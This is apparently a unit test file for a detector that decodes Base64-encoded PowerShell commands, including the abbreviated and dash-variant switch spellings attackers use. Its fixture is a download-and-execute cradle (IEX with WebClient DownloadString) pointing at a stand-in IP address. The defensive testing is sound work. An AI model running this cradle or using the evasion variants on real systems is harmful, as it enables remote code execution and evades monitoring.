import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { decodedCommand } from './decoded-command.ts'

const encoded = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"

describe('an encoded command', () => {
  test('is read under every abbreviation and dash that PowerShell takes', () => {
    for (const name of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '-encodedcomm', '/enc', '–enc', '—e', '―enc'])
      assert.equal(decodedCommand(`powershell.exe -NoP ${name} ${encoded(COMMAND)}`), COMMAND, name)
    assert.equal(decodedCommand(`powershell -enc "${encoded(COMMAND)}"`), COMMAND)
  })
  test('is not looked for in other switches', () => {
    for (const name of ['-ex', '-exec', '-ep', '-encoding', '-file'])
      assert.equal(decodedCommand(`powershell.exe ${name} ${encoded(COMMAND)}`), undefined, name)
    assert.equal(decodedCommand('powershell.exe -enc'), undefined)
    assert.equal(decodedCommand(undefined), undefined)
  })
  test('in a script’s own Base64 is read as UTF-8 or UTF-16', () => {
    const script = (bytes: Buffer) => `powershell -c "[Convert]::FromBase64String('${bytes.toString('base64')}')"`
    assert.equal(decodedCommand(script(Buffer.from(COMMAND))), COMMAND)
    assert.equal(decodedCommand(script(Buffer.from(COMMAND, 'utf16le'))), COMMAND)
  })
  test('that is no text is left alone, and a long one is cut', () => {
    const bytes = Buffer.from(Array.from({ length: 64 }, (_, at) => (at * 151) & 0xff))
    assert.equal(decodedCommand(`powershell -enc ${bytes.toString('base64')}`), undefined)
    assert.equal(decodedCommand(`powershell -enc ${encoded('a'.repeat(9000))}`)?.length, 4096)
  })
  test('property: any printable command comes back', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 6, maxLength: 200, unit: 'grapheme-ascii' }), (text) => {
        assert.equal(decodedCommand(`powershell -e ${encoded(text)}`), text)
      }),
    )
  })
})
